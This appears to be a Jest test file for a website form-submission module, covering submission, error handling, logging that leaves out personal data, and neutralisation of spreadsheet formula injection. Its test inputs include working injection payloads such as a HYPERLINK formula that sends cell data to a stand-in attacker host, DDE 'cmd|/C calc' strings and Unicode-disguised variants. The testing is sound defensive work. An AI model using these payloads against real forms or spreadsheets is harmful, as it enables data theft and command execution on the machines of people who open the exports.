/** @jest-environment node */
import { readFileSync } from 'node:fs';
import * as cellText from './cell-text.cjs';
import { attributionFields, rememberVisit, visitFrom } from '../analytics/attribution';
import { asCellText, SIMULATED_DELAY_MS, submitForm, TIMEOUT_MS, toFormData } from './submit';

const ENDPOINT = 'https://forms.example/f/abc';

describe('submitForm', () => {
  let logs: jest.SpyInstance[];
  beforeEach(() => {
    logs = (['log', 'info', 'error', 'debug', 'warn'] as const).map((level) =>
      jest.spyOn(console, level).mockImplementation(() => {}),
    );
  });
  afterEach(() => {
    jest.useRealTimers();
    jest.restoreAllMocks();
  });

  it('simulates by default: resolves ok after the spec delay and sends nothing', async () => {
    jest.useFakeTimers();
    const fetchImpl = jest.fn();
    let result: unknown;
    const promise = submitForm('contact', { name: 'Asha' }, { endpoint: '', fetchImpl }).then((r) => (result = r));
    await jest.advanceTimersByTimeAsync(SIMULATED_DELAY_MS - 1);
    expect(result).toBeUndefined();
    await jest.advanceTimersByTimeAsync(1);
    await promise;
    expect(result).toEqual({ ok: true });
    expect(fetchImpl).not.toHaveBeenCalled();
  });

  it('POSTs multipart form data with the form name and the file itself', async () => {
    const fetchImpl = jest.fn().mockResolvedValue({ ok: true, status: 200 });
    const resume = new File(['%PDF-resume-bytes'], 'asha.pdf', { type: 'application/pdf' });
    const result = await submitForm(
      'application',
      { name: 'Asha', phone: '98100 12345', resume },
      { endpoint: ENDPOINT, fetchImpl },
    );
    expect(result).toEqual({ ok: true });
    const [url, init] = fetchImpl.mock.calls[0];
    expect(url).toBe(ENDPOINT);
    expect(init.method).toBe('POST');
    // The browser sets multipart/form-data with its boundary; a manual Content-Type would break it.
    expect(init.headers).toEqual({ Accept: 'application/json' });
    const body = init.body as FormData;
    expect(body).toBeInstanceOf(FormData);
    expect(body.get('form')).toBe('application');
    expect(body.get('name')).toBe('Asha');
    const sent = body.get('resume') as File;
    expect(sent.name).toBe('asha.pdf');
    expect(sent.size).toBe('%PDF-resume-bytes'.length);
  });

  it('sends once per call and never when told to discard (a bot)', async () => {
    jest.useFakeTimers();
    const fetchImpl = jest.fn();
    const promise = submitForm('lead', { name: 'Asha' }, { endpoint: ENDPOINT, fetchImpl, discard: true });
    await jest.advanceTimersByTimeAsync(SIMULATED_DELAY_MS);
    await expect(promise).resolves.toEqual({ ok: true });
    expect(fetchImpl).not.toHaveBeenCalled();
  });

  it('reports an HTTP error without throwing', async () => {
    const fetchImpl = jest.fn().mockResolvedValue({ ok: false, status: 503 });
    await expect(submitForm('contact', { name: 'Asha' }, { endpoint: ENDPOINT, fetchImpl })).resolves.toEqual({
      ok: false,
      reason: 'http',
      status: 503,
    });
  });

  it('reports a network error without throwing', async () => {
    const fetchImpl = jest.fn().mockRejectedValue(new TypeError('Failed to fetch asha@x.in'));
    await expect(submitForm('application', {}, { endpoint: ENDPOINT, fetchImpl })).resolves.toEqual({
      ok: false,
      reason: 'network',
    });
  });

  it('logs the form and the outcome, never what was typed', async () => {
    const fields = {
      name: 'Asha',
      email: 'asha@x.in',
      phone: '98100 12345',
      resume: new File(['resume-bytes'], 'asha.pdf'),
    };
    for (const fetchImpl of [
      jest.fn().mockResolvedValue({ ok: true, status: 200 }),
      jest.fn().mockResolvedValue({ ok: false, status: 500 }),
      jest.fn().mockRejectedValue(new TypeError('Failed to fetch asha@x.in')),
    ]) {
      await submitForm('application', fields, { endpoint: ENDPOINT, fetchImpl });
    }
    const written = logs.flatMap((spy) => spy.mock.calls.flat().map(String)).join('\n');
    expect(written).toMatch(/application form: sent/);
    expect(written).toMatch(/application form: not sent, the endpoint answered 500/);
    expect(written).toMatch(/application form: not sent, the endpoint could not be reached/);
    expect(written).not.toMatch(/Asha|asha@|98100|resume-bytes/);
  });

  it('gives up on an endpoint that never answers after the timeout', async () => {
    jest.useFakeTimers();
    const fetchImpl = jest.fn(
      (_url: string, init: RequestInit) =>
        new Promise<Response>((_resolve, reject) =>
          init.signal!.addEventListener('abort', () => reject(new DOMException('aborted', 'AbortError'))),
        ),
    );
    let result: unknown;
    const promise = submitForm(
      'contact',
      { name: 'Asha' },
      { endpoint: ENDPOINT, fetchImpl: fetchImpl as unknown as typeof fetch },
    ).then((r) => (result = r));
    await jest.advanceTimersByTimeAsync(TIMEOUT_MS - 1);
    expect(result).toBeUndefined();
    await jest.advanceTimersByTimeAsync(1);
    await promise;
    expect(result).toEqual({ ok: false, reason: 'timeout' });
  });
});

describe('toFormData', () => {
  it('sends what was typed without bidirectional controls, which could disguise it in an inbox', () => {
    const data = toFormData('contact', { name: 'Ravi\u202Egpj.exe', message: 'a\u2066b\u2069c\u200F' });
    expect(data.get('name')).toBe('Ravigpj.exe');
    expect(data.get('message')).toBe('abc');
    expect(data.get('form')).toBe('contact');
  });
});

describe('what is sent opens as text in a spreadsheet', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1,"Open CV")', '\'=HYPERLINK("https://evil.example/?"&A1,"Open CV")'],
    ['+cmd|" /C calc"!A0', '\'+cmd|" /C calc"!A0'],
    ['-2+3+cmd|" /C calc"!A0', '\'-2+3+cmd|" /C calc"!A0'],
    ['@SUM(1+1)*cmd|" /C calc"!A0', '\'@SUM(1+1)*cmd|" /C calc"!A0'],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['  =1+1', "'  =1+1"],
  ])('puts an apostrophe before a value a spreadsheet would run: %j', (typed, sent) => {
    expect(asCellText(typed)).toBe(sent);
  });

  // Each once passed with JavaScript on: a spreadsheet skips the invisible start,
  // or reads the full-width or small sign as its own.
  it.each([
    ['a zero-width space', '\u200B=HYPERLINK("https://evil.example","CV")'],
    ['a zero-width joiner', '\u200D=1+1'],
    ['a word joiner', '\u2060=1+1'],
    ['a byte-order mark', '\uFEFF=1+1'],
    ['a soft hyphen', '\u00AD=1+1'],
    ['NEL', '\u0085=1+1'],
    ['NUL', '\u0000=1+1'],
    ['U+001C', '\u001C=1+1'],
    ['U+001F', '\u001F@SUM(1)'],
    ['a line feed', '\n=1+1'],
    ['a vertical tab', '\u000B=1+1'],
    ['DEL', '\u007F-1'],
    ['a no-break space', '\u00A0=1+1'],
    ['an ideographic space', '\u3000=1+1'],
    ['a full-width equals sign', '\uFF1DHYPERLINK("https://evil.example","CV")'],
    ['a full-width plus sign', '\uFF0B1+cmd|" /C calc"!A0'],
    ['a full-width hyphen-minus', '\uFF0D1+1'],
    ['a full-width commercial at', '\uFF20SUM(1)'],
    ['a small equals sign', '\uFE66=1'],
    ['a minus sign', '\u22121+1'],
  ])('puts an apostrophe before a value that starts with %s', (_, typed) => {
    expect(asCellText(typed)).toBe(`'${typed}`);
  });

  it('the receiver example of docs/forms.md neutralises a form posted with JavaScript off', () => {
    const example = /```js\n([\s\S]*?)```/.exec(readFileSync('docs/forms.md', 'utf8'))![1]!;
    // As the browser posts the contact form itself: every field as typed.
    const formData = new FormData();
    formData.set('name', '=HYPERLINK("https://evil.example","Open CV")');
    formData.set('message', '\uFF1D1+1');
    formData.set('email', 'meera@example.in');
    const receive = new Function('require', 'formData', `${example}\nreturn row;`);
    expect(receive((path: string) => (path === './lib/forms/cell-text.cjs' ? cellText : {}), formData)).toEqual({
      name: '\'=HYPERLINK("https://evil.example","Open CV")',
      message: "'\uFF1D1+1",
      email: 'meera@example.in',
    });
  });

  it('names the résumé as text too, as a service’s export lists it', () => {
    const resume = new File(['%PDF-1.7'], '=HYPERLINK("https://evil.example","CV").pdf', { type: 'application/pdf' });
    const sent = toFormData('application', { resume }).get('resume') as File;
    expect(sent.name).toBe('\'=HYPERLINK("https://evil.example","CV").pdf');
    expect(sent.type).toBe('application/pdf');
    const plain = new File(['%PDF-1.7'], 'meera-nair-cv.pdf', { type: 'application/pdf' });
    expect((toFormData('application', { resume: plain }).get('resume') as File).name).toBe('meera-nair-cv.pdf');
  });

  it.each(['+91 98765 43210', '-', '(011) 4567-8900', 'Meera Nair', 'a=b', 'Ravi + team', 'rahul@example.in', ''])(
    'sends a phone number and plain text as typed: %j',
    (typed) => {
      expect(asCellText(typed)).toBe(typed);
    },
  );

  it('neutralises a typed field and the attribution of a crafted campaign link alike', () => {
    const link = {
      origin: 'https://quantivo.example',
      pathname: '/services/',
      search: '?utm_source==HYPERLINK("https://evil.example","Verified")&utm_campaign=@SUM(1)&utm_medium=email',
    };
    const visit = rememberVisit(null, visitFrom(link, 'https://news.example/a?b=c'));
    const data = toFormData('contact', {
      name: '=1+1',
      phone: '+91 98765 43210',
      ...attributionFields(visit, '/'),
    });
    expect(Object.fromEntries([...data.entries()])).toMatchObject({
      name: "'=1+1",
      phone: '+91 98765 43210',
      utm_source: '\'=HYPERLINK("https://evil.example","Verified")',
      utm_campaign: "'@SUM(1)",
      utm_medium: 'email',
      landing_page: '/services/',
      referrer_origin: 'https://news.example',
      form_page: '/',
    });
  });
});
